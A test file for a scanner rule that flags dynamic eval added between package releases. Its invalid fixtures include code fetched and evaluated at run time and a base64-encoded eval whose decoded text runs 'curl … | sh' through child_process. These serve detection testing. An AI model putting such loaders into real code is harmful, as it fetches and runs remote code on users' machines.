// dynamic-eval on small before/after pairs: what a release adds is reported; what was already
// there (under other names) or is ordinary stays silent.
import { describe } from 'vitest';
import dynamicEval from '../../../../src/classify/code/rules/dynamic-eval.js';
import { codeRuleTester } from '../../../helpers/code-rule-tester.js';

/** Code both sides share, so the added code is a release's addition, not a new file. */
const OLD = 'function a0(n){return n+1}function b0(n){return a0(n)*2}';

describe('dynamic-eval', () => {
  codeRuleTester(dynamicEval, {
    valid: [
      { name: 'a constant Function body', before: OLD, after: OLD + 'var g=new Function("return this")()' },
      { name: 'eval of a literal', before: OLD, after: OLD + 'var g=eval("1+1")' },
      { name: 'a computed require', before: OLD, after: OLD + 'function r(n){return require("./locales/"+n+".js")}' },
    ],
    invalid: [
      { name: 'code fetched then evaluated', before: OLD, after: OLD + 'function r(u){return fetch(u).then(r=>r.text()).then(eval)}', findings: [{ severity: 'critical' }] },
      { name: 'fetched code in a Function', before: OLD, after: OLD + 'async function r(u){const c=await (await fetch(u)).text();return new Function(c)()}', findings: [{ severity: 'critical' }] },
      {
        name: 'decoded code evaluated',
        before: OLD,
        after: OLD + 'var c=atob("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIGh0dHBzOi8vZXhhbXBsZS5jb20vcy5zaCB8IHNoIik=");eval(c)',
        findings: [{ atLeast: 'high', payloadTexts: ['require("child_process").execSync("curl https://example.com/s.sh | sh")'] }],
      },
      { name: 'a template compiled at run time', before: OLD, after: OLD + 'function t(s){return new Function("o","return `"+s+"`")}', findings: [{ severity: 'low' }] },
    ],
  });
});
